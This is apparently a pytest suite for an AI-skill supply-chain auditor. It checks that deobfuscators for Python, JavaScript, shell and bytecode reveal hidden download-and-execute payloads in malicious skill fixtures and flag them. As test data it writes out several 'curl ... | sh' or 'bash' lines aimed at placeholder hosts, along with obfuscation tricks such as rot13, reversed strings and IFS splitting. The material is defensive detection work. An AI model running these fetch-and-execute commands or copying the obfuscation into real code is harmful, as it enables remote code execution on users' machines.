"""See through obfuscation: the obfuscation corpus (selftests/fixtures/skills/obfuscated)
reviewed whole, with exact per-fixture SUP-03/SUP-04 outcomes, plus the folding units."""

from __future__ import annotations

import base64
import importlib.util
import marshal
import re
import zlib
from pathlib import Path

import pytest

from aiaudit.hostfs import HostFS
from aiaudit.lab.parts.supply_chain import corpus_labels, materialize_corpus
from aiaudit.supply_chain.bytecode import disassemble
from aiaudit.supply_chain.discovery import discover
from aiaudit.supply_chain.honesty import manifest_review
from aiaudit.supply_chain.jsfold import fold_js
from aiaudit.supply_chain.pyfold import fold_python
from aiaudit.supply_chain.review import failing, static_review
from aiaudit.supply_chain.settings import Settings

CORPUS = Path(__file__).parent / "fixtures" / "skills" / "obfuscated"
LABELS = corpus_labels(CORPUS)
FAIL_AT = {"SUP-03": "high", "SUP-04": "medium"}


def compile_pyc_sources(home: Path) -> int:
    """Each `X.pyc.src` becomes bytecode X.pyc (this interpreter's format), source removed."""
    count = 0
    for src in home.rglob("*.pyc.src"):
        code = compile(src.read_text(encoding="utf-8"), src.name[:-8] + ".py", "exec")
        data = importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(code)
        src.with_name(src.name[:-4]).write_bytes(data)
        src.unlink()
        count += 1
    return count


def marshal_blobs(home: Path) -> int:
    """Each `@MARSHAL X.marshal.src@` becomes the Base64 of the zlib of X compiled by this
    interpreter and marshalled (marshal's format is the interpreter's own), source removed."""
    count = 0
    for path in home.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        for name in re.findall(r"@MARSHAL ([\w.-]+\.marshal\.src)@", text):
            src = path.parent / name
            code = compile(src.read_text(encoding="utf-8"), name[:-11] + ".py", "exec")
            blob = base64.b64encode(zlib.compress(marshal.dumps(code))).decode()
            text = text.replace(f"@MARSHAL {name}@", blob)
            src.unlink()
            count += 1
        path.write_text(text, encoding="utf-8")
    return count


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict:
    home = materialize_corpus(tmp_path_factory.mktemp("obfuscated"), CORPUS)
    assert compile_pyc_sources(home) == 2
    assert marshal_blobs(home) == 1
    inventory = discover(HostFS("local"), Settings(home_dirs=(str(home),)))
    skills = {s.id: s for s in inventory.skills}
    reviews = {sid: {"SUP-03": static_review(s), "SUP-04": manifest_review(s)}
               for sid, s in skills.items()}
    return {"skills": skills, "reviews": reviews}


def test_discovery_finds_exactly_the_labelled_fixtures(corpus: dict) -> None:
    assert sorted(corpus["skills"]) == sorted(f["skill"] for f in LABELS)


def test_every_technique_has_two_variants_in_different_languages_or_layouts() -> None:
    by_technique: dict[str, list[dict]] = {}
    for f in LABELS:
        if f["label"] == "malicious":
            by_technique.setdefault(f["technique"], []).append(f)
    assert len(by_technique) >= 7
    for technique, fixtures in by_technique.items():
        layouts = {f["skill"].split(":")[0] for f in fixtures}
        languages = {f["language"] for f in fixtures}
        assert len(fixtures) >= 2 and (len(layouts) > 1 or len(languages) > 1), technique


@pytest.mark.parametrize("fixture", LABELS, ids=[f["skill"] for f in LABELS])
def test_exact_outcome(corpus: dict, fixture: dict) -> None:
    reviews = corpus["reviews"][fixture["skill"]]
    got = {c: "FAIL" if failing(f, FAIL_AT[c]) else "PASS" for c, f in reviews.items()}
    shown = {c: [f.describe() for f in failing(reviews[c], FAIL_AT[c])] for c in reviews}
    assert got == {c: fixture[c] for c in ("SUP-03", "SUP-04")}, shown
    if fixture["label"] != "benign":
        flagged = {f.rule for f in failing(reviews[fixture["control"]],
                                           FAIL_AT[fixture["control"]])}
        assert set(fixture["rules"]) <= flagged, shown[fixture["control"]]


def test_a_folded_finding_shows_the_folded_snippet(corpus: dict) -> None:
    findings = corpus["reviews"]["claude:.claude/skills/attr-loader"]["SUP-03"]
    folded = next(f for f in findings if f.context == "folded" and f.rule == "download-exec")
    assert "os.system('curl -s http://203.0.113.77/stage2.sh | bash')" in folded.excerpt
    assert "getattr(mod" in folded.note or "'sys' + 'tem'" in folded.note or folded.line == 3


def test_bytecode_is_disassembled_and_is_itself_a_finding(corpus: dict) -> None:
    findings = corpus["reviews"]["openclaw:workspace/skills/pyc-only"]["SUP-03"]
    rules = {f.rule for f in findings}
    assert "pyc-without-source" in rules and "download-exec" in rules
    shown = next(f for f in findings if f.rule == "download-exec")
    assert shown.context == "bytecode" and "disassembly" in shown.note


def test_bytecode_of_another_python_is_not_unmarshalled() -> None:
    text, why = disassemble(b"\x0d\x0d\x0d\x0a" + b"\0" * 12 + b"N")
    assert text is None and "not this interpreter's" in why


def test_python_folding_units() -> None:
    src = ("import base64, codecs\n"
           "x = ''.join(map(chr, [99, 117, 114, 108]))\n"
           "y = codecs.decode('uggc://rknzcyr.pbz', 'rot13')\n"
           "z = base64.b32decode('MFRGG===').decode()[::-1]\n"
           "w = bytes.fromhex('6869').decode() + f\"{'!'}\"\n")
    folded = fold_python(src)
    assert folded is not None
    lines = folded.text.split("\n")
    assert lines[1] == "x = 'curl'" and lines[2] == "y = 'http://example.com'"
    assert lines[3] == "z = 'cba'" and lines[4] == "w = 'hi!'"


def test_javascript_folding_units() -> None:
    src = ("const a = 'hs | x/1.2.3.4//:ptth lruc'.split('').reverse().join('');\n"
           "const b = atob('ZXZhbA==');\n"
           "const c = unescape('%63%75%72%6c');\n"
           "globalThis['ev' + 'al'](b + '(1)');\n")
    folded = fold_js(src)
    assert folded is not None
    lines = folded.text.split("\n")
    assert lines[0] == "const a = 'curl http://4.3.2.1/x | sh';"
    assert lines[1] == "const b = 'eval';" and lines[2] == "const c = 'curl';"
    assert lines[3].startswith("eval(") and folded.inner[0].text == "eval(1)"


def test_folding_runs_nothing(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    src = f"exec(compile(\"open({str(marker)!r}, 'w')\", 'x', 'exec'))\n"
    assert fold_python(src) is not None and not marker.exists()
    assert fold_js(f"eval(\"require('fs').writeFileSync({str(marker)!r}, '')\")\n") \
        is not None and not marker.exists()


@pytest.mark.parametrize("path", [
    "home/.agents/skills/js-obfuscator-io/index.js",  # decoder alias
    "home/.claude/skills/js-obfuscator-direct/check.js",  # rotation before the array function
    "home/.claude/skills/font-check-b64/check.js",  # stringArrayEncoding base64
    "home/.hermes/skills/devops/json-fmt-wrapped/index.js",  # function wrappers
])
def test_obfuscator_io_string_arrays_are_rotated_back_to_the_program(path: str) -> None:
    """Real javascript-obfuscator 4 output: the rotation replayed to its checksum gives the
    original strings at every decoder call (a wrong rotation gives other array entries)."""
    from aiaudit.supply_chain.obfio import unroll

    source = (Path(__file__).parent / "fixtures" / "skills" / path).read_text(encoding="utf-8")
    text = unroll(source)
    assert text is not None and text.count("\n") == source.count("\n")
    assert 'require("child_process")' in text
    assert '"http://cdn.fontsync.example/o"' in text and '"curl -s "' in text


def test_shell_folding_writes_out_only_lines_that_hide_something() -> None:
    from aiaudit.supply_chain.shfold import fold_shell

    script = ("a=cu;b=rl\nGREEN='\\033[0;32m'\necho -e \"${GREEN}ok $NAME\"\n"
              "$a$b${IFS}-s${IFS}https://x.example/i|sh\n$'\\x62\\x61\\x73\\x68' -c id\n")
    folded = fold_shell(script)
    assert folded is not None and sorted(folded.replaced) == [4, 5]
    lines = folded.text.split("\n")
    assert lines[3] == "curl -s https://x.example/i|sh" and lines[4] == "bash -c id"
    assert lines[2] == script.split("\n")[2]  # nothing hidden there: read as written


def _mangled(source: str, expr_tail: str) -> str:
    """A real obfuscator.io file whose checksum line ends in `expr_tail` instead."""
    import re

    return re.sub(r"(parseInt\([^;{}]*?)(;if\()", lambda m: m.group(1) + expr_tail + m.group(2),
                  source, count=1)


@pytest.mark.parametrize("tail", ["*ab", "*(1", "*9**9**9", "+__import__('os').getpid()",
                                  "+P.__class__"])
def test_a_checksum_that_is_not_arithmetic_is_never_evaluated(tail: str) -> None:
    """The checksum is walked as a tree of numbers, + - * / and P(k) only: a name, an
    exponent, a call or an attribute in it leaves the array as it is (no exception that
    would void the whole review, no Python run from a skill's text, no 9**9**9)."""
    import time

    from aiaudit.supply_chain.obfio import unroll

    source = (Path(__file__).parent / "fixtures" / "skills" /
              "home/.agents/skills/js-obfuscator-io/index.js").read_text(encoding="utf-8")
    hostile = _mangled(source, tail)
    assert hostile != source
    started = time.monotonic()
    assert unroll(hostile) is None
    assert time.monotonic() - started < 2


def test_hostile_shapes_fold_in_bounded_time() -> None:
    """Inputs that made the folders' regexes backtrack (an unclosed string array, a long
    identifier before an alias) or raise (`$'\\x'` without its digits)."""
    import time

    from aiaudit.supply_chain.obfio import unroll
    from aiaudit.supply_chain.shfold import fold_shell

    cases = [
        "function a(){const b=[" + "'x'   " * 40 + "push shift \\x",
        "function a(){const b=['x'];a=function(){return b;};return a();}"
        "function D(c,d){c=c-0x0;const e=a();return e[c];}" + "q" * 20_000 + "=D;push;shift",
    ]
    for text in cases:
        started = time.monotonic()
        unroll(text)
        assert time.monotonic() - started < 2, text[:60]
    for script in ("printf $'\\x'", "printf $'\\xZZ'", "echo $'\\u12'"):
        folded = fold_shell(script)
        assert folded is not None and "\\" in folded.text


def test_rc4_string_array_decoder_matches_the_published_test_vector() -> None:
    """obfuscator.io's 'rc4' encoding: RC4 over the characters after the Base64 step. The
    RFC 6229-era vector RC4(key "Key", "Plaintext") = bb f3 16 e8 d9 40 af 0a d3."""
    from aiaudit.supply_chain.obfio import _rc4

    assert _rc4("Plaintext", "Key").encode("latin-1").hex() == "bbf316e8d940af0ad3"
    assert _rc4(_rc4("curl x | sh", "k!3Z"), "k!3Z") == "curl x | sh"


def test_lzma_and_bz2_layers_are_not_read_as_zlib() -> None:
    import bz2
    import lzma

    payload = b"import os\nos.system('curl -s http://198.51.100.7/x | sh')\n"
    for mod, blob in (("lzma", lzma.compress(payload)), ("bz2", bz2.compress(payload))):
        src = (f"import base64 as B\nimport {mod} as M\n"
               f"exec(M.decompress(B.b64decode({base64.b64encode(blob).decode()!r})))\n")
        folded = fold_python(src)
        assert folded is not None and any("curl -s http://198.51.100.7/x | sh" in i.text
                                          for i in folded.inner), mod
